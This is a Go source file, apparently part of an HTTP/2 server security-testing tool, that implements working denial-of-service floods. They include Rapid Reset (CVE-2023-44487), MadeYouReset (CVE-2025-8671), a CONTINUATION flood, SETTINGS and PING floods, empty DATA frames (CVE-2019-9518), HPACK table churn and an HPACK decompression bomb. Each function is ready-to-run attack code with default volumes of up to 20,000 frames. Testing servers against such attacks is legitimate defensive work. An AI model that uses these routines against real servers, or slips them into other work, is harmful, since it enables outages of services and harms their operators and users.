package attack

import (
	"bytes"
	"context"
	"fmt"
	"math"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// flood calls send t.Limit times, or until the server has had enough.
func (t Target) flood(ctx context.Context, limit int, send func(h *h2, i int) error) (Stats, error) {
	t = t.withDefaults(limit)
	return t.overH2(ctx, false, nil, func(h *h2, s *Stats) error {
		for i := 0; i < t.Limit && !h.gone(); i++ {
			if err := send(h, i); err != nil {
				<-h.closed
				return err
			}
			s.Sent++
		}
		return nil
	})
}

// RapidReset opens streams and resets each at once. Unit: a stream; default
// 10,000. (security G5, CVE-2023-44487)
func RapidReset(ctx context.Context, t Target) (Stats, error) {
	return t.flood(ctx, 10_000, func(h *h2, _ int) error {
		id, err := h.open("GET", true)
		if err != nil {
			return err
		}
		return h.framer.WriteRSTStream(id, http2.ErrCodeCancel)
	})
}

// MadeYouReset opens streams and breaks a rule on each, so that the server resets
// it: a window that grows by nothing, or beyond 2^31-1. Unit: a stream; default
// 10,000. (security G7, CVE-2025-8671)
func MadeYouReset(ctx context.Context, t Target) (Stats, error) {
	return t.flood(ctx, 10_000, func(h *h2, i int) error {
		id, err := h.open("GET", true)
		if err != nil {
			return err
		}
		grow := uint32(0)
		if i%2 == 1 {
			grow = math.MaxInt32
		}
		return h.framer.WriteWindowUpdate(id, grow)
	})
}

// ContinuationFlood begins a header block and never ends it: CONTINUATION frames of
// 1 KiB follow each other. Unit: a frame; default 20,000. (security G6)
func ContinuationFlood(ctx context.Context, t Target) (Stats, error) {
	t = t.withDefaults(20_000)
	return t.overH2(ctx, true, nil, func(h *h2, s *Stats) error {
		err := h.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: h.head("GET"), EndStream: true})
		for i := 0; err == nil && i < t.Limit && !h.gone(); i++ {
			h.block.Reset()
			h.hpack.WriteField(hpack.HeaderField{Name: fmt.Sprintf("x-%d", i), Value: strings.Repeat("!", 1<<10), Sensitive: true})
			if err = h.framer.WriteContinuation(1, false, h.block.Bytes()); err == nil {
				s.Sent++
			}
		}
		if err != nil {
			<-h.closed
		}
		return err
	})
}

// SettingsFlood sends SETTINGS frames, each of which wants to be confirmed. Unit:
// a frame; default 20,000.
func SettingsFlood(ctx context.Context, t Target) (Stats, error) {
	return t.flood(ctx, 20_000, func(h *h2, i int) error {
		return h.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(65535 + i%2)})
	})
}

// TableFlood changes the size of the server's HPACK table over and over while
// requests are answered. Unit: a request; default 5,000. (security G1)
func TableFlood(ctx context.Context, t Target) (Stats, error) {
	return t.flood(ctx, 5_000, func(h *h2, i int) error {
		sizes := [...]uint32{0, 4096, 1, 64 << 10}
		if err := h.framer.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: sizes[i%len(sizes)]}); err != nil {
			return err
		}
		_, err := h.open("GET", true)
		return err
	})
}

// PingFlood sends PING frames, each of which wants an answer. Unit: a frame;
// default 20,000.
func PingFlood(ctx context.Context, t Target) (Stats, error) {
	return t.flood(ctx, 20_000, func(h *h2, i int) error {
		return h.framer.WritePing(false, [8]byte{byte(i), byte(i >> 8)})
	})
}

// EmptyFrames sends DATA frames with nothing in them on an open stream. Unit: a
// frame; default 20,000. (CVE-2019-9518)
func EmptyFrames(ctx context.Context, t Target) (Stats, error) {
	return t.flood(ctx, 20_000, func(h *h2, i int) error {
		if i == 0 {
			if _, err := h.open("POST", false); err != nil {
				return err
			}
		}
		return h.framer.WriteData(1, false, nil)
	})
}

// HPACKBomb puts a header of nearly 4 KiB into the server's table and asks for it
// 8,000 times with one byte each, on stream after stream: 32 MiB of header in
// 8 KB. Unit: a request; default 50.
func HPACKBomb(ctx context.Context, t Target) (Stats, error) {
	// The entry fills the table, so it is the newest and the only one: index 62.
	bomb := hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("!", 4096-32-len("x-bomb"))}
	fuses := bytes.Repeat([]byte{0x80 | 62}, 8_000)
	return t.flood(ctx, 50, func(h *h2, _ int) error {
		id := h.stream
		h.stream += 2
		return h.framer.WriteHeaders(http2.HeadersFrameParam{
			StreamID: id, BlockFragment: append(h.head("GET", bomb), fuses...), EndStream: true, EndHeaders: true,
		})
	})
}
